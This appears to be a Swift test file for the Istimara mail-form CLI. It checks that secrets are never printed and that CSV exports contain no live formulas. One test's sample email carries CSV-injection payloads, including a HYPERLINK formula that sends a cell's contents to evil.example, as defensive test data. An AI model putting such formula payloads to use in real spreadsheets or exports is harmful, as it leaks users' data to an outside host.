import Foundation
import TestSupport
import Testing

@testable import IstimaraCLI

/// What commands print: never a secret, never a formula, and escape sequences only where they are wanted.
@Suite struct OutputTests {
    /// Settings with a password in each place that one can stand in.
    static let settings = """
        mailboxes:
          - {name: file, url: "imaps://localhost:1", user: u, password: {file: secret}}
          - {name: command, url: "imaps://localhost:1", user: u, password: {command: "echo hunter2"}}
          - {name: env, url: "imaps://localhost:1", user: u, password: {env: MAIL_PASSWORD}}
          - {name: credential, url: "imaps://localhost:1", user: u, password: {credential: mailbox}}
        """

    private func program(_ settings: String) throws -> Istimara {
        let config = BuiltProgram.root.path + "/config"
        var istimara = try Istimara(
            settings: "forms: \(config)/forms\nthemes: \(config)/themes.yaml\ncouncils: \(config)/councils.csv\n"
                + settings)
        for name in ["secret", "mailbox"] {
            try istimara.folder.writeSecret("hunter2", to: name)
        }
        istimara.program.environment["MAIL_PASSWORD"] = "hunter2"
        istimara.program.environment["CREDENTIALS_DIRECTORY"] = istimara.folder.path
        return istimara
    }

    @Test(arguments: [["check", "--offline"], ["check"], ["poll"], ["status"]])
    func secretsAreNeverShown(_ arguments: [String]) throws {
        let istimara = try program(Self.settings)
        let run = try istimara.program.run(arguments)
        #expect(!(run.output + run.errors).contains("hunter2"), "\(run.output)\(run.errors)")
        if arguments == ["check", "--offline"] {
            #expect(run.status == 0, "\(run.errors)")
            // Each was read, and each is named with where it comes from.
            for source in ["file \(istimara.folder.path)/secret", "command", "environment MAIL_PASSWORD", "credential"]
            {
                #expect(run.output.contains("password from \(source)"), "\(run.output)")
            }
        }
    }

    @Test(arguments: [
        "password: hunter2", "password: [hunter2]", "password: {file: secret, command: hunter2}",
        "password: {text: hunter2}", "pasword: hunter2", "oauth: {client_secret: hunter2}",
        "url: \"imaps://u:hunter2@localhost\", password: {file: secret}",
        "password: {command: \"exit 1 # hunter2\"}", "password: {file: secret}, user: [hunter2]",
    ])
    func mistakesDoNotQuoteSecrets(_ keys: String) throws {
        let url = keys.contains("url:") ? "" : "url: \"imaps://localhost\", "
        let user = keys.contains("user:") ? "" : "user: u, "
        let istimara = try program("mailboxes:\n  - {name: m, \(url)\(user)\(keys)}\n")
        let run = try istimara.program.run("check", "--offline")
        #expect(run.status == 78)
        #expect(!(run.output + run.errors).contains("hunter2"), "\(run.output)\(run.errors)")
    }

    @Test func theEffectiveSettingsHaveTheSourceOfEach() throws {
        let istimara = try program("limits: {message_size: 1MB}\n")
        let output = try istimara.program.run("check", "--offline").output
        func line(_ key: String) -> String {
            output.split(separator: "\n").first { $0.hasPrefix(key + " ") }.map(String.init) ?? ""
        }
        #expect(line("archive").hasSuffix("(ISTIMARA_ARCHIVE)"))
        #expect(line("forms").hasSuffix("(file)"))
        #expect(line("time_zone").hasSuffix("(default)"))
        #expect(line("limits.message_size").contains("1000000") && line("limits.message_size").hasSuffix("(file)"))
        #expect(line("limits.worker_wall").hasSuffix("(default)"))
    }

    @Test func noCellOfAnExportIsAFormula() throws {
        let istimara = try Istimara()
        let mail = """
            From: "=HYPERLINK(1)" <=cmd@figuig.example>
            To: forms@example.org
            Subject: =HYPERLINK("https://evil.example/?"&A1,"Bonjour")
            Date: Fri, 20 Mar 2020 18:20:00 +0100
            Message-ID: <1@mail.example>
            Content-Type: text/plain; charset="utf-8"
            Content-Transfer-Encoding: 8bit
            MIME-Version: 1.0

            0.1: Conseil provincial de Figuig
            0.2: Province
            0.3: L'Oriental
            0.4: @SUM(1+1)*cmd
            0.6: 0536 79 11 22
            0.8: 20/03/2020
            1.1: 2
            2.1: 1
            2.2: 18,2 MDH
            3.1: 2
            5.2: Oui

            """
        let file = try istimara.folder.write(Array(mail.utf8), to: "evil.eml")
        #expect(try istimara.program.run("import", file).status == 0)
        let csv = try istimara.program.run("records", "export", "--format", "csv").output
        for words in ["=HYPERLINK(", "=cmd@figuig.example", "@SUM(1+1)*cmd"] {
            #expect(csv.contains(words), "\(words) in \(csv)")
        }
        let rows = Self.cells(csv)
        #expect(rows.count == 2 && rows[0].count == rows[1].count)
        let active = rows.joined().filter { cell in
            cell.first.map { "=+-@\t\r".contains($0) } ?? false && Double(cell) == nil && !cell.hasPrefix("+212")
        }
        #expect(active.isEmpty)
    }

    /// The cells of a CSV file (RFC 4180).
    private static func cells(_ csv: String) -> [[String]] {
        var rows: [[String]] = [[]]
        var cell = ""
        var isQuoted = false
        var scalars = csv.unicodeScalars.drop { $0 == "\u{FEFF}" }[...]
        while let scalar = scalars.popFirst() {
            switch (scalar, isQuoted) {
            case ("\"", true) where scalars.first == "\"":
                cell.unicodeScalars.append("\"")
                scalars.removeFirst()
            case ("\"", _): isQuoted.toggle()
            case (",", false):
                rows[rows.count - 1].append(cell)
                cell = ""
            case ("\n", false):
                rows[rows.count - 1].append(cell)
                cell = ""
                if !scalars.isEmpty { rows.append([]) }
            case ("\r", false): break
            default: cell.unicodeScalars.append(scalar)
            }
        }
        return rows
    }

    /// `istimara` on a terminal of its own (script(1)).
    private func onTerminal(_ istimara: Istimara, _ command: String, environment: [String: String]) throws -> String {
        var terminal = BuiltProgram(path: "/usr/bin/script")
        terminal.environment = istimara.program.environment.merging(environment) { _, new in new }
        return try terminal.run("-qec", "\(istimara.program.path) \(command)", "/dev/null").output
    }

    @Test(arguments: [80, 120]) func aListHasALineASubmissionOnATerminalAndIsWholeInAPipe(_ columns: Int) throws {
        let istimara = try Istimara()
        for name in ["01-arabic-tagged", "10-letter", "16-blank-returned"] {
            try istimara.program.run("import", "fixtures/messages/\(name).eml")
        }
        let ids = try istimara.program.run("records", "list", "--json").objects().compactMap { $0["id"] as? String }
        #expect(ids.count == 3)
        let themes = "competences finances human_resources legal_measures"
        let piped = try istimara.program.run("records", "list").output.split(separator: "\n").map(String.init)
        #expect(piped.dropFirst().map { $0.prefix(8) } == ids.map { $0.suffix(8) })
        #expect(piped.contains { $0.contains("accepted") && $0.hasSuffix(themes) })
        for state in ["review: letter", "review: blank_form"] { #expect(piped.contains { $0.contains(state) }) }

        var terminal = BuiltProgram(path: "/usr/bin/script")
        terminal.environment = istimara.program.environment.merging(["TERM": "dumb"]) { _, new in new }
        let list = "stty cols \(columns); \(istimara.program.path) records list"
        let shown = try terminal.run("-qec", list, "/dev/null").output.split(whereSeparator: \.isNewline).map(
            String.init)
        #expect(shown.dropFirst().map { $0.prefix(8) } == ids.map { $0.suffix(8) })
        #expect(shown.allSatisfy { TerminalText.width($0) <= columns }, "\(shown)")
        #expect(shown.contains { $0.hasSuffix("…") } == (columns == 80))
        #expect(shown.contains { $0.hasSuffix(themes) } == (columns == 120))
    }

    @Test(arguments: [
        "parse fixtures/messages/01-arabic-tagged.eml", "import fixtures/messages/02-french-tagged.eml", "status",
    ])
    func coloursOnlyOnATerminalAndNoneWithNoColor(_ command: String) throws {
        let istimara = try Istimara()
        try istimara.program.run("import", "fixtures/messages/01-arabic-tagged.eml")
        func hasEscape(_ text: String) -> Bool { text.unicodeScalars.contains("\u{1B}") }
        #expect(hasEscape(try onTerminal(istimara, command, environment: ["TERM": "xterm"])))
        for plain in [["TERM": "xterm", "NO_COLOR": "1"], ["TERM": "dumb"]] {
            #expect(!hasEscape(try onTerminal(istimara, command, environment: plain)), "\(plain)")
        }
        var piped = istimara.program
        piped.environment["TERM"] = "xterm"
        let run = try piped.run(command.split(separator: " ").map(String.init))
        #expect(!hasEscape(run.output + run.errors))
    }
}
